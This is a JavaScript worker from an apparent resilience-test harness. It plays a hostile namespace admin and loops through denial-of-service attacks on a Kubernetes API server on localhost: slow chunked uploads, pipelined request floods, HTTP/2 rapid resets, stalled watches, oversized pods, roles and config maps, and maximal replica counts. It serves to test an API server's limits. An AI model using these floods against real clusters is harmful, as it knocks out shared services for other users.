// A tenant who means harm, with the rights of `admin` in one namespace: one attack after the other, for ever, and what each left is removed. It tells of each
// when it began and, in the end or when it is asked, how many of its requests were answered with which status (0: not at all; those of bytes by hand are not counted).
import { connect } from 'node:tls';
import { connect as connectHttp2 } from 'node:http2';
import { parentPort, workerData } from 'node:worker_threads';
import { account, mergePatch, pause } from './client.mjs';

const { namespace, port, token, eachMs, except } = workerData;
const requests = account({ port, token, maxSockets: 40 });
let statuses = {};
async function send(...what) {
  const mine = statuses;
  const { status } = await requests.send(...what);
  mine[status] = (mine[status] ?? 0) + 1;
}
const core = `/api/v1/namespaces/${namespace}`;
const apps = `/apis/apps/v1/namespaces/${namespace}`;
const list = (length, make) => Array.from({ length }, (_, at) => make(at));
const pod = (name, more = {}) => ({
  metadata: { name },
  spec: { containers: [{ name: 'c', image: 'example.org/app:1' }], ...more },
});
const term = (at) => ({ topologyKey: 'kubernetes.io/hostname', labelSelector: { matchLabels: { app: `a${at}` } } });
let untilMs = 0;
const goesOn = () => performance.now() < untilMs;
const flood = (lanes, one) =>
  Promise.all(
    list(lanes, async (lane) => {
      for (let at = 0; goesOn(); at++) await one(lane, at);
    }),
  );
const template = { metadata: { labels: { app: 'x' } }, spec: pod('x').spec };
const set = (name, more) => ({ metadata: { name }, spec: { selector: { matchLabels: { app: 'x' } }, template, ...more } });

/** One for each of four lanes: what does not exist cannot be replaced. */
const makeConfigMaps = (letter) =>
  Promise.all(list(4, (lane) => send('POST', `${core}/configmaps`, { metadata: { name: `${letter}${lane}` } })));

async function crumbs() {
  const sockets = list(10, () => {
    const socket = connect({ host: '127.0.0.1', port, rejectUnauthorized: false }).on('error', () => {});
    const head = `POST ${core}/configmaps HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${token}\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n`;
    socket.write(head);
    return socket;
  });
  while (goesOn()) {
    for (const socket of sockets) if (socket.writable) socket.write('1\r\n \r\n'.repeat(500));
    await pause(20);
  }
  for (const socket of sockets) socket.destroy();
}
async function pipelines() {
  const request = `GET /nonsense HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${token}\r\n\r\n`.repeat(200);
  const sockets = list(20, () =>
    connect({ host: '127.0.0.1', port, rejectUnauthorized: false })
      .on('error', () => {})
      .resume(),
  );
  while (goesOn()) {
    for (const socket of sockets) if (socket.writable && socket.writableLength < 100_000) socket.write(request);
    await pause(20);
  }
  for (const socket of sockets) socket.destroy();
}
async function resets() {
  while (goesOn()) {
    const session = connectHttp2(`https://127.0.0.1:${port}`, { rejectUnauthorized: false }).on('error', () => {});
    for (let at = 0; at < 500 && !session.destroyed; at++) {
      const stream = session.request({ ':path': `${core}/pods`, authorization: `Bearer ${token}` }).on('error', () => {});
      stream.close(8);
    }
    await pause(50);
    session.destroy();
  }
}
async function watches() {
  const sockets = list(300, () => {
    const socket = connect({ host: '127.0.0.1', port, rejectUnauthorized: false }).on('error', () => {});
    socket.write(`GET ${core}/configmaps?watch=true HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${token}\r\n\r\n`);
    return socket.pause();
  });
  await makeConfigMaps('w');
  await flood(4, (lane) =>
    send('PUT', `${core}/configmaps/w${lane}`, {
      metadata: { name: `w${lane}` },
      data: { a: 'x'.repeat(100_000), at: String(Math.random()) },
    }),
  );
  for (const socket of sockets) socket.destroy();
}

const attacks = {
  'affinity of thousands of terms': () =>
    flood(4, (lane, at) =>
      send(
        'POST',
        `${core}/pods`,
        pod(`t${lane}-${at}`, {
          affinity: { podAntiAffinity: { requiredDuringSchedulingIgnoredDuringExecution: list(4_000, term) } },
        }),
      ),
    ),
  'pods in thousands': () => flood(10, (lane, at) => send('POST', `${core}/pods`, pod(`p${lane}-${at}`))),
  'sets without an end': async () => {
    await send(
      'POST',
      `${apps}/statefulsets`,
      set('s', { replicas: 2_147_483_647, serviceName: 's', podManagementPolicy: 'Parallel' }),
    );
    await send('POST', `${apps}/replicasets`, set('r', { replicas: 2_147_483_647 }));
    while (goesOn()) await pause(200);
  },
  'a role of a billion permissions': () =>
    flood(2, (lane, at) =>
      send('POST', `/apis/rbac.authorization.k8s.io/v1/namespaces/${namespace}/roles`, {
        metadata: { name: `r${lane}-${at}` },
        rules: [
          { verbs: list(1_000, (i) => `v${i}`), apiGroups: list(1_000, (i) => `g${i}`), resources: list(1_000, (i) => `r${i}`) },
        ],
      }),
    ),
  'endpoints and tables': async () => {
    const ports = list(1_500, (at) => ({ name: `p${at}`, port: 1 + at }));
    const addresses = list(1_500, (at) => ({ ip: `10.9.${at >> 8}.${at & 255}` }));
    await send('POST', `${core}/endpoints`, { metadata: { name: 'e' }, subsets: [{ addresses, ports }] });
    await flood(8, () => send('GET', `${core}/endpoints`));
  },
  'large config maps': async () => {
    await makeConfigMaps('c');
    await flood(4, (lane) =>
      send('PUT', `${core}/configmaps/c${lane}`, {
        metadata: { name: `c${lane}` },
        data: Object.fromEntries(list(20_000, (at) => [`k${at}`, String(Math.random())])),
      }),
    );
  },
  'labels in thousands': () =>
    flood(4, (lane, at) =>
      send('POST', `${core}/configmaps`, {
        metadata: { name: `l${lane}-${at}`, labels: Object.fromEntries(list(10_000, (i) => [`k${i}`, 'v'])) },
      }),
    ),
  events: () =>
    flood(10, (lane, at) =>
      send('POST', `${core}/events`, {
        metadata: { name: `e${lane}-${at}` },
        involvedObject: { namespace, name: 'x' },
        reason: 'r',
        message: 'm'.repeat(1_000),
      }),
    ),
  'lists of everything': () => flood(20, () => send('GET', `${core}/pods?limit=500`)),
  'services and their labels': async () => {
    const ports = list(2_000, (at) => ({ name: `p${at}`, port: 1 + at }));
    await send('POST', `${core}/services`, { metadata: { name: 's' }, spec: { ports, selector: { app: 'x' } } });
    await flood(4, (lane, at) =>
      send('PATCH', `${core}/services/s`, { metadata: { labels: { at: `${lane}-${at}` } } }, mergePatch),
    );
  },
  crumbs,
  pipelines,
  resets,
  watches,
};

async function cleanUp() {
  const collections = ['statefulsets', 'replicasets'].map((one) => `${apps}/${one}`);
  for (const one of ['pods', 'configmaps', 'endpoints', 'services', 'events']) collections.push(`${core}/${one}`);
  collections.push(`/apis/rbac.authorization.k8s.io/v1/namespaces/${namespace}/roles`);
  for (const one of collections) await requests.send('DELETE', one, { propagationPolicy: 'Background', gracePeriodSeconds: 0 });
}

const chosen = Object.entries(attacks).filter(([name]) => except === '' || !new RegExp(except).test(name));
let current = {};
const tell = () => parentPort.postMessage({ ...current, statuses });
parentPort.on('message', tell);
while (chosen.length > 0) {
  for (const [name, attack] of chosen) {
    current = { name, beganMs: Date.now() };
    statuses = {};
    tell();
    untilMs = performance.now() + eachMs;
    await attack();
    await cleanUp();
    tell();
  }
}
